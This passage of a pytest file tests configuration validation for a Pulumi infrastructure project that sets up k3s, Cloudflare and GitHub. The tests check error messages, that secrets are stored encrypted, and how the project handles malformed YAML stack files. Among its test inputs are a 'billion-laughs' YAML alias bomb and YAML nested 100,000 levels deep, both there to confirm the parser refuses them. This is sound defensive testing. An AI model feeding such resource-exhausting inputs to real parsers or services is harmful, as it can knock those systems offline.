        {"routeNamespaces": '["homepage/argocd.taehoonlee.cloud"]'},
        "spitikos:routeNamespaces: 'argocd.taehoonlee.cloud' is Argo CD's (`argocdHostname`): only 'argocd' serves it",
    ),
    (
        "route-namespace-twice",
        {"routeNamespaces": '["vault/vault.taehoonlee.cloud", "homepage/vault.taehoonlee.cloud"]'},
        "spitikos:routeNamespaces: 'vault.taehoonlee.cloud' is listed twice: one namespace serves a hostname",
    ),
    *[(f"own-cluster-{i}", o, m) for i, o, m in OWN_CLUSTER_BAD_INPUTS],
]


@pytest.mark.parametrize("overrides,message", [(o, m) for _, o, m in BAD_INPUTS], ids=[i for i, _, _ in BAD_INPUTS])
def test_bad_input_is_rejected_naming_the_key(overrides, message):
    with pytest.raises(SettingsError) as raised:
        load(overrides)
    assert any(p.startswith(message) for p in raised.value.problems), raised.value.problems
    assert message in str(raised.value)


def test_secret_stored_in_plain_text_is_rejected():
    with pytest.raises(SettingsError) as raised:
        load({}, secret_keys=[k for k in DUMMY_SECRETS if k != "spitikos:githubToken"])
    assert raised.value.problems == [
        "spitikos:githubToken: must be stored encrypted: `pulumi config set --secret githubToken ...`"
    ]


def test_every_problem_is_reported_at_once_and_no_secret_is_quoted():
    with pytest.raises(SettingsError) as raised:
        load({"domain": "bad", "nodeHost": "??", "sshPrivateKey": "hunter2-not-a-key"})
    assert len(raised.value.problems) >= 3
    assert "hunter2" not in str(raised.value)
    # One problem a line, under one heading: what the CLI shows the operator.
    listed = "".join(f"\n  - {p}" for p in raised.value.problems)
    assert str(raised.value) == f"the stack's settings are invalid:{listed}"


def test_secrets_are_pulumi_secrets_from_birth():
    from spitikos.engine import resolve, run

    holder = {}
    run(lambda: holder.setdefault("s", load({})))
    s = holder["s"]
    for output in (s.ssh_private_key, s.cloudflare.api_token, s.github.token, s.github.release_token):
        value, secret = resolve(output)
        assert secret and value in DUMMY_SECRETS.values()


def test_every_key_the_cli_requires_is_in_the_stack_file_or_set_by_the_operator():
    """The CLI refuses to run a stack missing any declared key that has no default."""
    import yaml
    from conftest import ROOT

    declared = yaml.safe_load((ROOT / "Pulumi.yaml").read_text())["config"]
    required = {f"spitikos:{k}" for k, spec in declared.items() if "default" not in spec}
    in_stack_file = set(yaml.safe_load((ROOT / "Pulumi.pi5.yaml").read_text())["config"])
    secrets = {f"spitikos:{k}" for k, spec in declared.items() if spec["description"].startswith("Secret.")}
    set_by_operator = {"spitikos:cloudflareAccountId"}
    # What a stack may leave out with its part has a default, so only the domain is required everywhere.
    assert required - in_stack_file == set()
    assert required == {"spitikos:domain"}
    # How to set each one is written where its reader looks: the README's first run, or the page of its part.
    docs = "".join(p.read_text() for p in [ROOT / "README.md", *sorted((ROOT / "docs").glob("*.md"))])
    for key in secrets | set_by_operator:
        assert f"pulumi config set {'--secret ' if key in secrets else ''}{key.split(':')[1]}" in docs
    for spec in declared.values():
        assert spec.get("description"), "every key is described"
        assert spec.get("type") in ("string", "integer", "boolean", "array")


def test_every_declared_key_is_read_and_every_read_key_is_declared():
    """The unknown-key check relies on the settings reading every key Pulumi.yaml declares."""
    import yaml
    from conftest import ROOT

    from components import settings

    declared = set(yaml.safe_load((ROOT / "Pulumi.yaml").read_text())["config"])
    seen = set()
    original = settings._Reader.unknown_keys
    try:
        settings._Reader.unknown_keys = lambda self: seen.update(self.read)
        load({})
    finally:
        settings._Reader.unknown_keys = original
    assert seen == declared


def test_a_mistyped_domain_is_one_problem_naming_domain():
    with pytest.raises(SettingsError) as raised:
        load({"domain": "taehoonlee", "zones": "[]"})
    assert raised.value.problems == ["spitikos:domain: 'taehoonlee' is not a domain name like 'example.com'"]


def test_optional_settings_left_at_their_empty_default_are_unset():
    empty = {"k3sVersion": "", "sshHostname": "", "kubeApiHostname": "", "nodeHostKey": "", "ciRepository": ""}
    s = load({**empty, "uninstallOnDestroy": None, "kubeconfigRenewal": None})
    assert s.k3s_version == versions.K3S_VERSION
    assert s.uninstall_on_destroy is False, "a destroy leaves k3s on the node unless asked"
    assert s.kubeconfig_renewal == ""
    assert s.ssh_hostname is None and s.kube_api_hostname is None and s.server.host_key is None


def test_unset_github_settings_take_the_defaults_pulumi_yaml_describes():
    unset = ("repositories", "repositoryVisibility", "adoptExistingRepositories", "requiredReviews")
    github = load(dict.fromkeys((*unset, "rootRepository", "rootPath"))).github
    assert github.repositories == ("spitikos", "api", "docs", "charts")
    assert (github.visibility, github.adopt_existing, github.required_reviews) == ("public", False, 0)


def test_a_node_of_unstated_memory_is_a_4_gb_pi_and_3_to_16_gb_are_accepted():
    assert load({"nodeMemory": None}).node_memory_mi == 4096
    assert [load({"nodeMemory": m}).node_memory_mi for m in ("3Gi", "16Gi")] == [3072, 16384]


@pytest.mark.parametrize("written", ["v1.35.5+k3s1\n", " v1.35.5+k3s1 ", "v1.35.5+k3s1\r\n"])
def test_a_k3s_tag_with_trailing_white_space_reaches_the_nodes_as_the_bare_tag(written):
    """YAML block scalars and pasted values end in a newline: it is dropped, never sent to the node."""
    assert load({"k3sVersion": written}).k3s_version == "v1.35.5+k3s1"


def test_each_required_hostname_is_named_when_all_are_missing():
    with pytest.raises(SettingsError) as raised:
        load({"hostnames": json.dumps(["docs.spitikos.dev"]), "protectedHostnames": "[]"})
    missing = [p for p in raised.value.problems if p.startswith("spitikos:hostnames: must include")]
    assert missing == [
        "spitikos:hostnames: must include 'api.taehoonlee.cloud', the `apiHostname`",
        "spitikos:hostnames: must include 'argocd.taehoonlee.cloud', the `argocdHostname`",
    ]


@pytest.mark.parametrize(
    "overrides,only",
    [
        (
            {"hostnames": "[]"},
            "spitikos:hostnames: is required: the public hostnames, at least Argo CD's and the api's",
        ),
        ({"agents": '["pi2=10.0.0.201:99999"]'}, "spitikos:agents: the port of 'pi2=10.0.0.201:99999' is out of range"),
        ({"cloudflare:apiToken": "x" * 40}, "cloudflare:apiToken: is not read"),
        ({"domain": None}, "spitikos:domain: is required but not set"),
        ({"cloudflareAccountId": None}, "spitikos:cloudflareAccountId: is required but not set"),
        ({"githubOwner": None}, "spitikos:githubOwner: is required but not set"),
        # Not each route, privileged namespace and backup of pi5's again: only the name at fault.
        ({"appNamespaces": '["API", "homepage"]'}, "spitikos:appNamespaces: 'API' is not"),
    ],
    ids=[
        "empty-hostnames",
        "agent-port",
        "provider-key",
        "no-domain",
        "no-cloudflare-account",
        "no-github-owner",
        "bad-app-namespace",
    ],
)
def test_one_mistake_is_one_line(overrides, only):
    """Errors do not cascade: an empty `hostnames` says nothing about `protectedHostnames`."""
    with pytest.raises(SettingsError) as raised:
        load(overrides)
    assert len(raised.value.problems) == 1 and raised.value.problems[0].startswith(only), raised.value.problems


def test_an_unknown_key_is_named_with_the_setting_it_may_be_a_typo_of_if_any():
    with pytest.raises(SettingsError) as raised:
        load({"nodehost": "10.0.0.200", "wifiPassword": "x"})
    assert raised.value.problems == [
        "spitikos:nodehost: is not a setting of this stack: did you mean 'nodeHost'?",
        "spitikos:wifiPassword: is not a setting of this stack",
    ]


def test_keys_of_packages_with_default_providers_are_left_alone():
    """`random`, `tls` and `command` hold no credentials; the stack may configure their default providers."""
    load({"tls:proxy": '{"fromEnv": true}'})


def test_a_root_of_your_own_is_accepted_when_the_repositories_are_adopted():
    s = load({"adoptExistingRepositories": "true", "rootRepository": "charts", "rootPath": "charts/argocd"})
    assert (s.root.repository, s.root.path) == ("charts", "charts/argocd")
    fresh = load({"adoptExistingRepositories": "false", "rootRepository": "spitikos", "rootPath": "argocd/apps/"})
    assert (fresh.root.repository, fresh.root.path) == ("spitikos", "argocd/apps")


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIServerKey"
HA_SERVERS = '["10.0.0.206", "10.0.0.207"]'
# Values an operator may write and what the stack then uses: defaults for blank values (the CLI
# hands a key set to "" as ""), the edges of each range, and the forms each setting accepts.
ACCEPTED = [
    ("node-user-blank", {"nodeUser": ""}, lambda s: s.server.user, "ubuntu"),
    ("node-port-unset", {"nodeSshPort": None}, lambda s: s.server.port, 22),
    ("node-port-low-edge", {"nodeSshPort": "1"}, lambda s: s.server.port, 1),
    ("node-port-high-edge", {"nodeSshPort": "65535"}, lambda s: s.server.port, 65535),
    ("host-key-line", {"nodeHostKey": KEY}, lambda s: s.server.host_key, KEY),
    ("host-key-as-keyscan-prints-it", {"nodeHostKey": f"10.0.0.200 {KEY}\n"}, lambda s: s.server.host_key, KEY),
    (
        "agents-take-the-node-user-and-port",
        {"nodeUser": "pi", "nodeSshPort": "2222", "agents": '["10.0.0.201"]'},
        lambda s: [(a.user, a.port) for a in s.agents],
        [("pi", 2222)],
    ),
    (
        "servers-take-the-node-user-and-port",
        {"nodeUser": "pi", "nodeSshPort": "2222", "datastore": "etcd", "etcdOnSsd": "true", "servers": HA_SERVERS},
        lambda s: [(n.user, n.port) for n in s.backup.servers],
        [("pi", 2222), ("pi", 2222)],
    ),
    ("pi5-builds-every-part", {}, lambda s: s.parts.skipped(), []),
    (
        "parts-unset-are-built",
        {"cloudflare": None, "github": None},
        lambda s: (s.parts.cloudflare, s.parts.github),
        (True, True),
    ),
    ("token-of-20-characters", {"ghaPat": "x" * 20}, lambda s: s.github.release_token is not None, True),
    ("root-revision-blank", {"rootRevision": ""}, lambda s: s.root.revision, "main"),
    ("datastore-blank-is-sqlite", {"datastore": ""}, lambda s: s.backup.datastore, "sqlite"),
    ("root-revision-a-tag", {"rootRevision": "v1.2.0"}, lambda s: s.root.revision, "v1.2.0"),
    ("root-path-loses-its-slashes-only", {"rootPath": "/Xenial/apps/"}, lambda s: s.root.path, "Xenial/apps"),
]


@pytest.mark.parametrize("overrides,value,expected", [c[1:] for c in ACCEPTED], ids=[c[0] for c in ACCEPTED])
def test_accepted_values_reach_the_stack_as_written_or_as_their_default(overrides, value, expected):
    assert value(load(overrides)) == expected


def test_an_agent_port_at_the_edges_is_accepted():
    s = load({"agents": '["a=10.0.0.201:1", "b=10.0.0.202:65535"]'})
    assert [a.port for a in s.agents] == [1, 65535]


# Stack files as an operator writes them: each mistake is one line naming the file (and the key).
# (`billion-laughs`: ten aliases of the one before, nine deep, 10^10 values once expanded.)
STACK_FILES = [
    *[
        (
            f"tagged-{tag}",
            f"config:\n  spitikos:{key}: {value}\n",
            f"Pulumi.bad.yaml: spitikos:{key}: holds bytes, a set or a date (an explicit `!!binary`, `!!set` or "
            "`!!timestamp` tag), which no config value can be: write it as plain text, without the tag",
        )
        for tag, key, value in [
            ("binary", "domain", "!!binary aGk="),
            ("set", "domain", "!!set {a, b}"),
            ("timestamp", "domain", "!!timestamp 2001-12-14"),
            ("in-a-list", "appNamespaces", "[api, !!binary aGk=]"),
        ]
    ],
    ("yaml-syntax", "config:\n  spitikos:domain: [a\n", "Pulumi.bad.yaml: line 3, column 1: not valid YAML ("),
    ("yaml-tab", "config:\n\tspitikos:domain: a\n", "Pulumi.bad.yaml: line 2, column 1: not valid YAML ("),
    ("empty", "", "Pulumi.bad.yaml: is empty: it needs a `config:` mapping of `spitikos:` keys"),
    ("comments-only", "# my stack\n", "Pulumi.bad.yaml: is empty"),
    ("not-a-mapping", "- spitikos:domain\n", "Pulumi.bad.yaml: needs a `config:` mapping"),
    (
        "key-without-namespace",
        "config:\n  nodeSshPort: 2222\n",
        "Pulumi.bad.yaml: nodeSshPort: a key needs its namespace: write it as `spitikos:nodeSshPort`",
    ),
    (
        "key-given-twice",
        "config:\n  spitikos:domain: a.example\n  spitikos:nodeHost: 10.0.0.9\n  spitikos:domain: b.example\n",
        "Pulumi.bad.yaml: line 4: `spitikos:domain` is given twice (first on line 2): keep one",
    ),
    (
        "nested-key-given-twice",
        "config:\n  spitikos:x:\n    - {a: 1, a: 2}\n",
        "Pulumi.bad.yaml: line 3: `a` is given twice (first on line 3): keep one",
    ),
    (
        "configs",
        "configs:\n  spitikos:domain: a.example\n",
        "Pulumi.bad.yaml: `configs:` is not a stack file's key: did you mean `config:`?",
    ),
    (
        "top-level-key",
        "domain: a.example\nconfig: {}\n",
        "Pulumi.bad.yaml: `domain:` is not a stack file's key: a stack file holds config,",
    ),
    (
        "billion-laughs",
        "config:\n  spitikos:a: &a [x, x, x, x, x, x, x, x, x, x]\n"
        + "".join(
            f"  spitikos:{b}: &{b} [{', '.join([f'*{a}'] * 10)}]\n"
            for a, b in zip("abcdefghi", "bcdefghij", strict=False)
        )
        + "  spitikos:domain: *j\n",
        "Pulumi.bad.yaml: line 5: holds more than 10000 values once its aliases are expanded: write them out",
    ),
    (
        "alias-inside-itself",
        "config:\n  spitikos:x: &a [1, *a]\n",
        "Pulumi.bad.yaml: line 2: an alias refers to a value that contains it: remove it",
    ),
    # libyaml's composer recursed once per level, and crashed the interpreter past ~50 000 levels.
    (
        "nested-deep",
        f"config:\n  spitikos:x: {'[' * 100_000}{']' * 100_000}\n",
        "Pulumi.bad.yaml: line 2: values nested more than 64 deep",
    ),
    (
        "mappings-nested-deep",
        f"config:\n  x: {'{a: ' * 100_000}1{'}' * 100_000}\n",
        "Pulumi.bad.yaml: line 2: values nested more than 64 deep",
    ),
]


def _stack_root(tmp_path, text: str):
    from conftest import ROOT

    (tmp_path / "Pulumi.yaml").symlink_to(ROOT / "Pulumi.yaml")
    (tmp_path / "Pulumi.bad.yaml").write_text(text)
    return tmp_path


@pytest.mark.parametrize("text,message", [(t, m) for _, t, m in STACK_FILES], ids=[i for i, _, _ in STACK_FILES])
def test_a_broken_stack_file_is_one_line_naming_the_file(tmp_path, text, message):
    from spitikos.stack import StackFileError, offline_config

    with pytest.raises(StackFileError) as raised:
        offline_config("bad", _stack_root(tmp_path, text))
    assert str(raised.value).startswith(message) and "\n" not in str(raised.value), str(raised.value)


def test_a_stack_file_whose_aliases_expand_without_bound_is_refused_within_a_second(tmp_path):
    """It once ran 60 s at 1.7 GB and ignored Ctrl-C: the expansion is counted, never done."""
    import time

    from spitikos.stack import StackFileError, offline_config

    laughs = next(text for name, text, _ in STACK_FILES if name == "billion-laughs")
    started = time.monotonic()
    with pytest.raises(StackFileError):
        offline_config("bad", _stack_root(tmp_path, laughs.replace("10000", "")))
    assert time.monotonic() - started < 1


def test_a_stack_file_that_is_not_text_or_not_a_file_is_one_line(tmp_path):
    from spitikos.stack import StackFileError, offline_config

    root = _stack_root(tmp_path, "")
    (root / "Pulumi.bad.yaml").write_bytes(b"config:\n  spitikos:domain: caf\xe9.example\n")
    with pytest.raises(StackFileError, match=r"^Pulumi.bad.yaml: byte 31 is not UTF-8: save the file as UTF-8$"):
        offline_config("bad", root)
    (root / "Pulumi.bad.yaml").unlink()
    (root / "Pulumi.bad.yaml").mkdir()
    with pytest.raises(FileNotFoundError, match=r"^no stack file Pulumi\.bad\.yaml: known stacks are"):
        offline_config("bad", root)
    for name in ("../x", "a/b", "", "-x"):
        with pytest.raises(StackFileError, match="is not a stack name"):
            offline_config(name, root)


@pytest.mark.parametrize("namespace", ["spitkos", "Spitikos", "spitikos-infra", "SPITIKOS"])
def test_a_key_under_a_misspelt_namespace_is_refused_naming_the_right_one(namespace):
    with pytest.raises(SettingsError) as raised:
        load({f"{namespace}:nodeMemory": "8Gi"})
    assert raised.value.problems == [
        f"{namespace}:nodeMemory: `{namespace}:` is not this project's namespace:"
        " write the key as `spitikos:nodeMemory`"
    ]


def test_keys_of_other_packages_are_left_to_their_own_checks():
    """The providers the program makes itself are refused as before; other packages' keys are not ours."""
    with pytest.raises(SettingsError) as raised:
        load({"kubernetes:context": "x", "cloudflare:apiToken": "y", "github:owner": "z", "random:x": "1"})
    assert [p.split(": ", 1)[0] for p in raised.value.problems] == [
        "cloudflare:apiToken",
        "github:owner",
        "kubernetes:context",
    ]
    assert all("is not read: the program makes its" in p for p in raised.value.problems)
    assert load({"random:x": "1", "pulumi:template": "x"}).domain == "taehoonlee.cloud"


SECURE = "\n    secure: v1:AAAABBBBCCCC\n"


@pytest.mark.parametrize(
    "added,message",
    [
        (
            f"  spitikos:nodeHost: 10.0.0.9\n  spitikos:kubeconfig:{SECURE}",
            "spitikos:nodeHost: is set, but `kubeconfig` is set: the stack builds on that cluster and sets up no node:"
            " remove it (`pulumi config rm nodeHost`), or remove `kubeconfig` to install k3s on a node",
        ),
        (
            f"  spitikos:cloudflareApiToken:{SECURE}",
            "spitikos:cloudflareApiToken: is set, but `cloudflare` is false: there is no tunnel, DNS or Access:"
            " remove it (`pulumi config rm cloudflareApiToken`), or set `cloudflare` to true",
        ),
        (
            f"  spitikos:githubToken:{SECURE}",
            "spitikos:githubToken: is set, but `github` is false: the stack manages no GitHub repository (the root's"
            " Git URL is `rootRepositoryUrl`): remove it (`pulumi config rm githubToken`), or set `github` to true",
        ),
    ],
    ids=["kubeconfig-and-node", "cloudflare-token-without-cloudflare", "github-token-without-github"],
)
def test_an_encrypted_secret_of_a_part_the_stack_does_not_build_is_refused_not_dropped(tmp_path, added, message):
    """Offline runs once dropped it, and planned another stack (an SSH install instead of the kubeconfig's)."""
    from conftest import ROOT

    from spitikos.stack import offline_config

    text = (ROOT / "Pulumi.e2e.yaml").read_text() + added
    config, secrets, _ = offline_config("bad", _stack_root(tmp_path, text))
    pulumi.runtime.set_all_config(config, secrets)
    with pytest.raises(SettingsError) as raised:
        load_settings()
    assert raised.value.problems == [message]


def test_unquoted_dates_reach_the_settings_as_the_cli_hands_them(tmp_path):
    """The runbook's `kubeconfigRenewal 2027-01-15` is text to the CLI; offline it once crashed on a date."""
    from spitikos.stack import stack_values

    text = (
        "config:\n  spitikos:kubeconfigRenewal: 2027-01-15\n"
        "  spitikos:argocdAdminPasswordRotatedAt: 2026-12-01T09:30:00Z\n"
    )
    config = stack_values("bad", _stack_root(tmp_path, text))
    assert config["spitikos:kubeconfigRenewal"] == "2027-01-15"
    assert config["spitikos:argocdAdminPasswordRotatedAt"] == "2026-12-01T09:30:00Z"
    pulumi.runtime.set_all_config({**stack_config(), **config}, list(DUMMY_SECRETS))
    s = load_settings()
    assert (s.kubeconfig_renewal, s.argocd_admin_password_rotated_at) == ("2027-01-15", "2026-12-01T09:30:00Z")


def test_an_encrypted_key_no_setting_declares_secret_is_still_refused(tmp_path):
    """Offline runs drop encrypted values; an encrypted typo or provider token must not vanish with them."""
    from spitikos.stack import stack_values

    text = "config:\n  cloudflare:apiToken:\n    secure: AAABAxyz\n  spitikos:githubTokn:\n    secure: AAABAabc\n"
    config = stack_values("bad", _stack_root(tmp_path, text))
    pulumi.runtime.set_all_config({**stack_config(), **config}, list(DUMMY_SECRETS))
    with pytest.raises(SettingsError) as raised:
        load_settings()
    assert [p.split(":", 2)[:2] for p in raised.value.problems] == [
        ["spitikos", "githubTokn"],
        ["cloudflare", "apiToken"],
    ]


def test_hostnames_are_the_same_host_whatever_their_case():
    s = load(
        {
            "apiHostname": "API.Taehoonlee.cloud",
            "zones": json.dumps(["Taehoonlee.Cloud", "spitikos.dev"]),
            "hostnames": json.dumps(["*.TAEHOONLEE.cloud", "API.Taehoonlee.cloud", "Argocd.taehoonlee.cloud"]),
            "protectedHostnames": json.dumps(["ARGOCD.taehoonlee.cloud"]),
            "routeNamespaces": json.dumps(["api/API.taehoonlee.cloud"]),
        }
    )
    assert s.api_hostname == "api.taehoonlee.cloud"
    assert s.hostnames == ("*.taehoonlee.cloud", "api.taehoonlee.cloud", "argocd.taehoonlee.cloud")
    assert s.protected_hostnames == ("argocd.taehoonlee.cloud",)
    assert s.route_namespaces == (("api.taehoonlee.cloud", "api"), ("argocd.taehoonlee.cloud", "argocd"))
    # and the helpers other components call compare without case too
    from components.settings import covers, zone_of

    assert covers("*.Taehoonlee.cloud", "API.taehoonlee.CLOUD")
    assert zone_of("API.Taehoonlee.cloud", ("taehoonlee.cloud",)) == "taehoonlee.cloud"


@pytest.mark.parametrize(
    "pattern,hostname,covered",
    [
        ("*.a.example", "x.a.example", True),
        ("*.a.example", "X.A.example", True),
        ("*.a.example", "a.example", False),  # a wildcard needs a label of its own
        ("*.a.example", "y.x.a.example", False),  # and stands for one label only
        ("*.a.example", "x.b.example", False),
        ("x.a.example", "x.a.example", True),
        ("x.a.example", "y.a.example", False),
    ],
)
def test_a_wildcard_covers_one_label_of_its_own_zone_only(pattern, hostname, covered):
    from components.settings import covers

    assert covers(pattern, hostname) is covered


@pytest.mark.parametrize(
    "hostname,zone",
    [
        ("x.a.z.example", "a.z.example"),  # a subdomain's own zone, not its parent's
        ("*.a.z.example", "a.z.example"),
        ("x.z.example", "z.example"),
        ("z.example", "z.example"),
        ("x.other.example", None),
    ],
)
def test_a_hostname_belongs_to_the_most_specific_zone_it_is_in(hostname, zone):
    from components.settings import zone_of

    assert zone_of(hostname, ("z.example", "a.z.example")) == zone


def test_agents_can_be_given_their_host_keys():
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAgentKey"
    entries = [f"pi2=ubuntu@10.0.0.201:22 {key}", f"10.0.0.202 [10.0.0.202]:22 {key} root@pi3", "10.0.0.203"]
    s = load({"agents": json.dumps(entries)})
    assert [(a.key, a.host, a.host_key) for a in s.agents] == [
        ("pi2", "10.0.0.201", key),
        ("10-0-0-202", "10.0.0.202", key),
        ("10-0-0-203", "10.0.0.203", None),
    ]
    with pytest.raises(SettingsError) as bad:
        load({"agents": json.dumps(["pi2=10.0.0.201 ssh-ed25519 AAAA!"])})
    assert bad.value.problems == [
        "spitikos:agents: 'pi2=10.0.0.201': 'ssh-ed25519 AAAA!' is not an SSH host key like 'ssh-ed25519 AAAA...'"
    ]


def load_e2e(overrides: dict[str, str]):
    """The e2e stack's settings (own cluster, no Cloudflare, no GitHub) with `overrides`."""
    from spitikos.stack import offline_config

    config, secrets, _ = offline_config("e2e")
    config = {**config, **{f"spitikos:{k}": v for k, v in overrides.items()}}
    pulumi.runtime.set_all_config(config, secrets)
    return load_settings()


def test_the_e2e_stack_builds_on_its_kubeconfig_without_cloudflare_or_github():
    s = load_e2e({})
    assert s.parts.existing_cluster and not s.parts.cloudflare and not s.parts.github
    assert s.server.host == "", "no node: the `nodeAddress` export stays empty"
    assert s.parts.root_repository_url == "https://github.com/spitikos/spitikos-infra.git"
    assert s.parts.skipped() == [
        "the node bootstrap (k3s over SSH): `kubeconfig` names the cluster",
        "Cloudflare (tunnel, DNS, Access, cloudflared): `cloudflare: false`",
        "GitHub (repositories, deploy keys, webhooks, secrets): `github: false`",
    ]
    assert (s.argocd_hostname, s.api_hostname) == ("argocd.spitikos.test", "api.spitikos.test")


def test_a_key_of_an_absent_part_is_one_line_and_nothing_else():
    """The usual checks of that key (hostnames must hold the api's ...) would only be noise."""
    with pytest.raises(SettingsError) as raised:
        load_e2e(
            {
                "hostnames": '["x.spitikos.test"]',
                "nodeUser": "pi",
                "githubToken": "ghp_0123456789abcdefghij",
                # a key of two absent parts (the node's and Cloudflare's) is still one line
                "sshHostname": "ssh.spitikos.test",
            }
        )
    assert raised.value.problems == [
        f"spitikos:nodeUser: {NO_NODE}: remove it (`pulumi config rm nodeUser`), or remove `kubeconfig` to install"
        " k3s on a node",
        f"spitikos:sshHostname: {NO_NODE}: remove it (`pulumi config rm sshHostname`), or remove `kubeconfig` to"
        " install k3s on a node",
        "spitikos:hostnames: is set, but `cloudflare` is false: there is no tunnel, DNS or Access: remove it"
        " (`pulumi config rm hostnames`), or set `cloudflare` to true",
        "spitikos:githubToken: is set, but `github` is false: the stack manages no GitHub repository"
        " (the root's Git URL is `rootRepositoryUrl`): remove it (`pulumi config rm githubToken`), or set `github`"
        " to true",
    ]
    assert "ghp_" not in str(raised.value)
    # A blank value is not a value: nothing to refuse.
    assert load_e2e({"agents": "", "hostnames": " "}).parts.existing_cluster


def test_a_kubeconfig_in_plain_text_is_refused():
    from spitikos.stack import offline_config

    config, _, _ = offline_config("e2e")
    pulumi.runtime.set_all_config(config, [])
    with pytest.raises(SettingsError) as raised:
        load_settings()
    assert raised.value.problems == [
        "spitikos:kubeconfig: must be stored encrypted: `pulumi config set --secret kubeconfig ...`"
    ]


# --- CI's way to the node (docs/decisions/0005) ---------------------------------------------------


def test_pi5_lets_ci_in_through_its_ssh_and_api_hostnames_and_writes_the_tokens_to_this_repository():
    ci = load({}).ci
    assert (ci.enabled, ci.repository, ci.token_rotated_at) == (True, "spitikos-infra", "")


def test_ci_settings_without_both_hostnames_are_refused_with_the_reason():
    with pytest.raises(SettingsError) as error:
        load({"kubeApiHostname": "", "ciTokenRotatedAt": "2026-12-07T09:30:00Z"})
    for key in ("ciRepository", "ciTokenRotatedAt"):
        assert f"spitikos:{key}: is set, but CI's Access service tokens exist only when both sshHostname and " in str(
            error.value
        )
    assert load({"kubeApiHostname": "", "ciRepository": ""}).ci.enabled is False


@pytest.mark.parametrize(
    ("key", "value", "message"),
    [
        ("ciRepository", "spitikos/infra", "'spitikos/infra' is not a GitHub repository name"),
        ("ciTokenRotatedAt", "yesterday", "'yesterday' is not a UTC time like '2026-12-01T09:30:00Z'"),
    ],
)
def test_bad_ci_settings_are_refused_naming_the_key(key, value, message):
    with pytest.raises(SettingsError, match=re.escape(f"spitikos:{key}: {message}")):
        load({key: value})


def test_ci_token_rotated_at_reaches_the_tunnel():
    from components.platform import tunnel_args

    settings = load({"ciTokenRotatedAt": "2026-12-07T09:30:00Z"})
    assert tunnel_args(settings, None, None, "https://nginx").ci_token_rotated_at == "2026-12-07T09:30:00Z"


def test_the_guard_migrations_switch_pairs_are_accepted_on_pi5():
    """docs/migration/README.md pairs the dashboard's old binding with cluster-admin for one `pulumi up`."""
    import textwrap

    import yaml
    from conftest import ROOT

    text = (ROOT / "docs" / "migration" / "README.md").read_text()
    section = text[text.index("## The guard patch, between two `pulumi up`s") :]
    block = re.search(r"```yaml\n(.*?)```", section, re.S).group(1)
    pairs = yaml.safe_load(textwrap.dedent(block))["spitikos:allowedAdminBindings"]
    assert "ClusterRoleBinding/admin-user-binding=cluster-admin" in pairs
    assert load({"allowedAdminBindings": json.dumps(pairs)}).allowed_admin_bindings[-1] == (
        "ClusterRoleBinding/admin-user-binding",
        "cluster-admin",
    )
